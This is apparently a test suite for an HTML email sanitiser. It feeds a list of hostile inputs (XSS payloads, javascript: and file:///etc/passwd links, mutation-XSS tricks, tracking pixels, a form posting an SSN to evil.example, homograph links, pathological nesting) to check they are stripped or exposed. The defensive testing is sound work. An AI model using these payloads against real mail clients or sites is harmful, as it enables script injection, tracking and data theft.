"""A mail in HTML loses all that acts, loads or misleads, and stays readable."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assisterdesk.securemail.harmless import MOST_CHARACTERS, made_harmless
from assisterdesk.securemail.notice import is_notice
from assisterdesk.securemail.parseable import MOST_SOURCE

#: everything that may stand in the harmless form
_ALLOWED = re.compile(
    r"</?(?:p|b|i|u|ul|ol|li|blockquote|tr|td)>|<br>|</?table>|</a>"
    r'|<table border="1" cellspacing="0" cellpadding="4">'
    r'|<a href="https://[^"<>\s]*">',
    re.IGNORECASE,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://tracker.example/p.gif?who=mai">',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jav\tascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>x</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="qrc:/icons/x">x</a>',
    '<a href="https://mnsure.org@evil.example/">x</a>',
    '<a href=\'https://evil.example/"><b onclick=x\'>x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=ssn><button>Send</button></form>",
    "<style>@import 'https://evil.example/x.css'; p{background:url(x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<table background='https://evil.example/x.png'><tr><td background=x>a<td>b</table>",
    "<body background=https://evil.example/x onload=x>text</body>",
    "<math><mtext></table><mglyph><style><img src onerror=x></style>",
    "<noscript><p title='</noscript><img src=x onerror=x>'>",
    "<!--><img src=x onerror=x>-->",
    "<![CDATA[<img src=x onerror=x>]]>",
    "<![if mso]><img src=x><![endif]><![nonsense",
    "<p><a href=https://a.example/<img>link</a>",
    "<video src=x><audio src=y><source srcset=z>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<xml:namespace><o:p>office</o:p>",
]


def foreign_markup(html: str) -> str:
    """What is left of the output once every tag that may be there is taken out."""
    rest = _ALLOWED.sub("", html)
    return rest if "<" in rest or ">" in rest else ""


@pytest.mark.parametrize("mail", HOSTILE)
def test_nothing_hostile_comes_through(mail: str) -> None:
    found = made_harmless(f"<p>before</p>{mail}<p>after</p>")
    assert foreign_markup(found.html) == ""
    assert not re.search(r'href="(?!https://)', found.html)
    assert "tracker.example" not in found.html
    assert "before" in found.text


@given(st.text(alphabet="<>/!-[]&;'\"= \nabtdhrefpuliscrpx:", max_size=200))
def test_whatever_the_markup_only_the_short_list_comes_out(mail: str) -> None:
    found = made_harmless(mail)
    assert foreign_markup(found.html) == ""
    assert foreign_markup(made_harmless(found.html).html) == ""


@pytest.mark.parametrize(
    "mail",
    [
        "<table><tr><td>" * 30_000,
        "<!--" * 100_000,
        "<ul><li>" * 40_000 + "x",
        "<a href='" * 50_000,
        "</" * 150_000,
        "<![" * 100_000,
        "<" * 400_000,
        "<b><a href=https://a.example>" * 15_000,
        "<blockquote>x" * 30_000,
    ],
    ids=lambda mail: mail[:12],
)
def test_a_mail_made_to_take_long_does_not(mail: str) -> None:
    begun = time.process_time()
    found = made_harmless(mail)
    assert time.process_time() - begun < 30
    assert foreign_markup(found.html) == ""


def test_the_structure_stays() -> None:
    found = made_harmless(
        "<html><head><title>no</title></head><body><h2>Notice</h2>"
        "<p>Dear <b>navigator</b>,<br>we <i>received</i> it.</p>"
        "<ol><li>proof of income<li>signature</ol>"
        "<table><tr><th>Month</th><th>Premium</th></tr><tr><td>October</td><td>$12</td></tr></table>"
        "<blockquote>You wrote</blockquote></body></html>"
    )
    assert found.html.startswith("<p><b>Notice</b></p>")
    assert "<b>navigator</b>,<br>we <i>received</i> it." in found.html
    assert "<ol><li>proof of income</li><li>signature</li></ol>" in found.html
    assert "<tr><td>October</td><td>$12</td></tr></table>" in found.html
    assert found.text.splitlines() == [
        "Notice",
        "Dear navigator,",
        "we received it.",
        "1. proof of income",
        "2. signature",
        "Month | Premium",
        "October | $12",
        "> You wrote",
    ]


def test_tables_that_only_place_things_become_what_they_place() -> None:
    inner = "<table><tr><td>a</td><td>b</td></tr></table>"
    mail = f"<table><tr><td><table><tr><td>Hello</td></tr></table></td></tr><tr><td>{inner}</table>"
    found = made_harmless(mail)
    assert found.html.count("<table") == 1
    assert found.html.startswith("<p>Hello</p><table")


@pytest.mark.parametrize(
    ("link", "shown"),
    [
        ('<a href="https://evil.example/x">www.mnsure.org</a>', "www.mnsure.org [evil.example]"),
        ('<a href="https://mnsur\u0435.org/">mnsure.org</a>', "mnsure.org [xn--mnsur-3we.org]"),
        ('<a href="https://a.example">a.example</a>', "a.example"),
        ('<a href="http://plain.example/">here</a>', "here [plain.example]"),
        ('<a href="mailto:desk@example.org">write</a>', "write [desk@example.org]"),
        ('<a href="https://a@evil.example/">mnsure.org</a>', "mnsure.org [evil.example]"),
    ],
)
def test_a_link_says_where_it_really_leads(link: str, shown: str) -> None:
    assert made_harmless(link).text == shown


def test_only_a_plain_https_link_can_be_pressed() -> None:
    links = made_harmless(
        '<a href="https://a.example/?x=1&amp;y=2">one</a> <a href="http://b.example">two</a> '
        '<a href="https://c@d.example">three</a>'
    )
    assert re.findall(r'href="([^"]*)"', links.html) == ["https://a.example/?x=1&amp;y=2"]


def test_what_was_kept_is_shown_with_its_hosts_once() -> None:
    kept = made_harmless('<p>See <a href="https://a.example/">this</a></p>', hosts=False)
    assert "[a.example]" not in kept.html
    assert made_harmless(kept.html).text == "See this [a.example]"


def test_letters_that_turn_the_direction_are_taken_out() -> None:
    assert made_harmless("<p>\u202egro.erusnm\u202c</p>").text == "gro.erusnm"


def test_what_was_hidden_is_shown() -> None:
    assert "IGNORE" in made_harmless("<p style='display:none'>IGNORE</p>").text


def test_a_mail_beyond_all_measure_is_cut_and_says_so() -> None:
    assert made_harmless("<p>" + "x" * (MOST_CHARACTERS + 1)).cut
    assert made_harmless("<p>x</p>" + " " * MOST_SOURCE).cut
    assert not made_harmless("<p>x</p>").cut


@pytest.mark.parametrize("name", ["message.rpmsg", "securedoc_2026.html", "SecureMessageAtt.html"])
def test_a_wrapped_file_makes_it_a_notice(name: str) -> None:
    assert is_notice("", (name,))


def test_a_notice_is_known_by_its_words_and_a_reply_is_not() -> None:
    said = "You have received an encrypted message. Read the message: https://portal.example/x"
    assert is_notice(said, ())
    assert is_notice("", (), "rpmsg.message")
    assert not is_notice("We received your request. Reference: PR-00001", ("notice.pdf",))
    assert not is_notice("Read the message of 3 October. " * 300 + "https://a.example", ())
